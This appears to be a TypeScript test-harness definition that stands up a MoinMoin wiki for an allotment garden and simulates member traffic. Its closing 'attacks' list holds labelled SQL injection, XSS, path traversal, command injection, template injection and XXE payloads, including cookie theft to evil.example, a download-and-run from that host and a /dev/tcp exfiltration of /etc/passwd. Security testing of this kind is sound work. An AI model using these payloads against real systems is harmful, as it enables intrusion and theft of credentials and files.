import type { Application } from "../application.ts";

/** Takes the settings that the wiki itself writes, and opens them to its members. */
const settle = `
path = "wikiconfig.py"
text = open(path).read()
for old, new in {
    "YOUR-SUPER-USER-NAME": "warden",
    "YOUR-TRUSTED-EDITORS-GROUP:read,write,create": "Known:read,write,create",
    'edit_locking_policy = "lock"': "edit_locking_policy = None",
    'sitename = "My MoinMoin"': 'sitename = "Allotment commons"',
    "registration_only_by_superuser = True": "registration_only_by_superuser = False",
}.items():
    assert old in text, old
    text = text.replace(old, new)
open(path, "w").write(text)
`;

const wikiPages: Readonly<Record<string, string>> = {
  Home: "= Allotment commons =\n\nThe notebook of 43 plots. Begin at [[Plots]], [[Compost]], [[WateringRota]] or [[Minutes]].\n\n * [[Pests/Slugs]]\n * [[Seeds|Seeds that we swap]]\n * [[ToolShed]]\n",
  Plots:
    "= Plots =\n\n||'''Plot'''||'''Holder'''||'''Since'''||\n||7||O'Shea||2011||\n||8b||vacant||-||\n||12||Nguyễn & Roth||2024||\n\nSee [[WateringRota]] and [[Compost]].\n",
  Compost:
    "= Compost =\n\nThree bays: ''fresh'', ''turning'', ''ready''. No meat, no bread.\n\n == Heat ==\nBay 2 stood at 58 °C. Back to [[Home]].\n",
  WateringRota: "= Watering rota =\n\n 1. Monday: plots 1-9\n 1. Tuesday: plots 10-20\n\nKeys: [[ToolShed]].\n",
  Minutes: "= Minutes =\n\n[[Minutes/March]]\n\nMotion: a second water butt. Carried 11 to 2.\n",
  "Minutes/March": "= March =\n\nPresent: nine. Apologies: two. [[Plots]] were discussed; the hedge was not.\n",
  "Pests/Slugs": "= Slugs =\n\nCopper tape: ''no'' effect. Nematodes: some. [[Pests/Aphids]] is still to be written.\n",
  Seeds: "= Seeds =\n\n * Crimson-flowered broad bean\n * Uchiki Kuri (see [[Plots]])\n",
  ToolShed: "= Tool shed =\n\n{{{\n2 spades, 1 fork (bent), 3 cans\n}}}\n\nPadlock: ask on [[Minutes]].\n",
};

/** A path of one name for a page: some have subpages. */
const fileOf = (name: string) => `pages/${name.replace("/", "_")}`;

/** MoinMoin 2, a wiki; its visitors search it, write and correct pages in its markup, and look at what others changed. */
export const moin: Application = {
  name: "moin",
  packages: { pip: ["moin==2.0.0b5"] },
  files: () => ({
    "settle.py": settle,
    ...Object.fromEntries(
      Object.entries(wikiPages).flatMap(([name, text], index) => [
        [`${fileOf(name)}.data`, text],
        [
          `${fileOf(name)}.meta`,
          JSON.stringify({
            name: [name],
            namespace: "",
            itemid: String(index + 1).padStart(32, "0"),
            size: 0,
            rev_number: 1,
            address: "127.0.0.1",
            contenttype: "text/x.moin.wiki;charset=utf-8",
            itemtype: "default",
            comment: "",
            summary: "",
            tags: ["garden", name.split("/")[0]],
          }),
        ],
      ]),
    ),
  }),
  prepare: () => [
    ["moin", "create-instance"],
    ["python3", "settle.py"],
    ["moin", "index-create"],
    ...Object.keys(wikiPages).map((name) => [
      "moin",
      "item-put",
      "-m",
      `${fileOf(name)}.meta`,
      "-d",
      `${fileOf(name)}.data`,
    ]),
    ["moin", "account-create", "-n", "warden", "-e", "warden@example.org", "-p", "kale-and-9-leeks"],
  ],
  start: ({ port }) => ["moin", "run", "-h", "127.0.0.1", "-p", String(port)],
  ready: "/Home",
  async enter(page, origin) {
    // The editor asks for the page's name and its readers, too: others would look for it in vain.
    await page.addInitScript({
      content: `addEventListener("DOMContentLoaded", () => {
        for (const field of document.querySelectorAll("[name=meta_form_name], [name=meta_form_acl]")) field.readOnly = true;
      })`,
    });
    await page.goto(`${origin}/+login`);
    await page.fill("input[name=login_username]", "warden");
    await page.fill("input[name=login_password]", "kale-and-9-leeks");
    await page.click("form[name=login] input[type=submit]");
    await page.waitForSelector("a[href*='+logout']", { state: "attached" });
  },
  // Of thirty links on a page one leads to its editor, which is where most members go.
  async reach(page, random) {
    if ((await page.locator("#moin-modify").count()) > 0) return null;
    const editor = page.locator("a[href*='/+modify/']:visible");
    if ((await editor.count()) > 0 && random.chance(0.6)) await editor.first().click({ timeout: 2_000 });
    return null;
  },
  // Enter in its lines would press the first button of the editor, which cancels.
  async submit(page) {
    if ((await page.locator("#moin-modify :focus").count()) === 0) return false;
    await page.click("button[onclick*='moin-save-text-button']:visible", { timeout: 2_000 });
    return true;
  },
  pages: [
    "/Home",
    "/Plots",
    "/+modify/Compost?itemtype=default&contenttype=text%2Fx.moin.wiki%3Bcharset%3Dutf-8",
    "/+modify/Pests/Aphids?itemtype=default&contenttype=text%2Fx.moin.wiki%3Bcharset%3Dutf-8&template=",
    "/+modify/Minutes/April?itemtype=default&contenttype=text%2Fx-markdown%3Bcharset%3Dutf-8&template=",
    "/+modify/WateringRota",
    "/+search",
    "/+history",
    "/+tickets",
    "/+modify/Plots",
    "/+modify/ToolShed",
    "/+modify/Minutes/March",
  ],
  // A renamed or destroyed page is missing to the next visitor, settings hold the password and the language of the one account, and who
  // cancels an edit, in whichever language, wrote nothing.
  avoid:
    /destroy|delete|rename|usersettings|settings|password|lostpass|register|\+admin|wikiconfig|download|\+get\/|\+convert|subscribe|help-|quicklink|cancel|abbrechen|annuler|cancelar|キャンセル/i,
  texts: {
    searches: [
      "slugs",
      "copper tape",
      "water butt",
      "O'Shea",
      "plot 8b",
      "compost AND heat",
      "nematodes OR ducks",
      '"broad bean"',
      "name:Minutes",
      "tags:garden",
      "Uchiki Kuri",
      "hedge -privet",
      "rota*",
      "Nguyễn",
      "58 °C",
      "who has the key?",
      "padlock (shed)",
      "bean~2",
      "mtime:2026",
      "contenttype:markdown",
      "50% shade",
      "tomato && basil",
      "blight's first sign",
      "カボチャ",
      "огурцы",
      "fork / spade",
    ],
    lines: [
      "Pests/Aphids",
      "Minutes/April",
      "Rhubarb",
      "Plot 8b's new holder",
      "typo",
      "added the soil test (pH 6,4)",
      "moved O'Shea -> plot 9",
      "reverted; see talk",
      'the "no bread" rule, again',
      "garden, compost, heat",
      "spring",
      "Kürbis & Co.",
      "fix link to [[ToolShed]]",
      "Hedge: cut it or not?",
      "needs a photo :-)",
      "warden",
      "Rotation 3/4",
      "+1, but not before 10:00",
      "50% off at the seed swap",
      "Haricots d'Espagne",
      "Полив",
      "水やり当番",
      "bay 2 @ 61 °C 🌡️",
      "see https://example.org/blight?region=north&week=22",
      "Seeds#beans",
      "water; compost; repeat",
      "Minutes/2026-05",
      "superseded by Plots (v2)",
    ],
    long: [
      "= Aphids =\n\n'''Black''' on the broad beans, ''green'' on everything else.\n\n * pinch the tips out\n * soap: 2 % in soft water\n * wait for the ladybirds -- they come\n\nBack to [[Home]].",
      "== Agenda ==\n 1. Water butt (see [[Minutes/March]])\n 1. The hedge\n 1. A.O.B.\n\n----\nApologies to: Ó Briain, d'Urso.",
      "||'''Plot'''||'''Crop'''||'''kg'''||\n||7||leeks||14.5||\n||8b||-||-||\n||12||courgettes||\"too many\"||",
      '{{{#!python\n# litres per plot\nfor plot, area in plots.items():\n    print(f"{plot}: {area * 4.5:.0f} l" if area else f"{plot}: none")\n}}}',
      "{{{\n$ sudo apt install gpsd && cat /dev/ttyUSB0 | head -n 3\n$ grep -c 'plot' ~/survey/2026.csv; echo $?\n}}}\nThat's how the plan was measured.",
      '# April\n\n> "We don\'t lock the gate before ten."\n\n- [x] padlock oiled\n- [ ] **fork** mended\n\n```js\nconst share = plots.filter((p) => p.area > 50 && !p.vacant);\n```',
      "I wouldn't touch bay 2 before June: it's at 58 °C (measured, not guessed), and 30% of it is still straw. Anyone who'd like to help, drop in on Saturday; select a fork from the left of the shed.",
      "~-Moved here from [[Compost]]: 'no bread' also means no cake.-~\n\n@@warden@@ asked: who left ../the gate/.. open?",
      "Transclusion test: {{hedge.png}} -- delete this line if it's in the way.\n<<TableOfContents(2)>>\n\n/* remember: update the rota before the 1st */",
      "Der Kürbis steht in voller Blüte; wer Ableger möchte, trägt sich bitte unter „Seeds“ ein – danke!\nGruß, Parzelle 12",
      "Ми поливаємо у вівторок і п'ятницю. Ключ — у сторожа.\n\n再来週の土曜日、9時集合(雨天中止)。🌱🪣",
      '<<Include(Minutes/March)>>\n\n<!-- nothing below this line yet -->\n||<tablewidth="60%" #eeffee> Bed ||<|2> Note ||\n|| A || lime in autumn ||',
      "Area ≈ π·r² for the round bed: r = 1,8 m → 10,2 m²; at 4 plants/m² that's ≤ 40 plants. Σ of all beds: 212 m².",
      "SELECT of the seed list, as the county's office sent it:\n{{{#!sql\nSELECT variety, COUNT(*) FROM seed WHERE swapped = 'yes' GROUP BY variety; -- 31 rows\n}}}",
      "Links for the winter:\n * [[https://example.org/soil?type=clay&ph=6.4#lime|soil primer]]\n * file on the shed's laptop: C:\\Users\\shed\\plan_v3(final).odt\n * /home/shed/rota.ics",
      "Correction: O'Shea's plot is 7, not \"7a\". Sorry!",
      "{{{#!wiki solid/blue\nThe hose is to be turned '''off''' at the wall; dripping costs us ~5 £/month.\n}}}",
    ],
  },
  attacks: [
    { class: "sql_injection", payload: "Compost' AND (SELECT 2291 FROM (SELECT(SLEEP(5)))mJrd)-- wQxP" },
    { class: "sql_injection", payload: 'slugs" UNION SELECT login,password,NULL FROM wiki_users#' },
    { class: "sql_injection", payload: "8b';SELECT CASE WHEN (1=1) THEN pg_sleep(6) ELSE pg_sleep(0) END--" },
    { class: "sql_injection", payload: "rota') UNION/*!50000ALL*/SELECT/**/@@version,user(),database()-- -" },
    { class: "sql_injection", payload: "x' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT @@hostname))) AND 'b'='b" },
    { class: "sql_injection", payload: "12 AND 1=(SELECT COUNT(*) FROM all_users t1,all_users t2,all_users t3)" },
    { class: "xss", payload: "[[javascript:eval(atob('ZmV0Y2goJy8vZXZpbC5leGFtcGxlJyk='))|seed list]]" },
    {
      class: "xss",
      payload: "{{{#!html <video><source onerror=\"document.forms[0].action='//evil.example/w'\"></video>}}}",
    },
    { class: "xss", payload: "<marquee onstart=window['\\x61lert'](document.cookie)>frost tonight</marquee>" },
    { class: "xss", payload: '"autofocus onfocus="new Image().src=\'http://evil.example/l?\'+document.cookie" x="' },
    { class: "xss", payload: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">rota.pdf</a>' },
    { class: "path_traversal", payload: "Home/../../../../../../../../etc/passwd" },
    { class: "path_traversal", payload: "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd" },
    { class: "path_traversal", payload: "../../wikiconfig.py%00.jpg" },
    { class: "path_traversal", payload: "php://filter/convert.base64-encode/resource=../wikiconfig" },
    { class: "command_injection", payload: "Plots|wget -qO /tmp/.m http://evil.example/m&&chmod +x /tmp/.m&&/tmp/.m" },
    {
      class: "command_injection",
      payload:
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{c('id',shell=True)}}{% endif %}{% endfor %}",
    },
    { class: "command_injection", payload: "() { :;}; /bin/bash -c 'cat /etc/passwd > /dev/tcp/203.0.113.90/80'" },
    { class: "command_injection", payload: "<%= IO.popen(%w[cat /etc/passwd]).read %>" },
    {
      class: "xxe",
      payload:
        '<!DOCTYPE svg [<!ENTITY wiki SYSTEM "file:///var/lib/moin/wikiconfig.py">]><svg><text>&wiki;</text></svg>',
    },
  ],
};
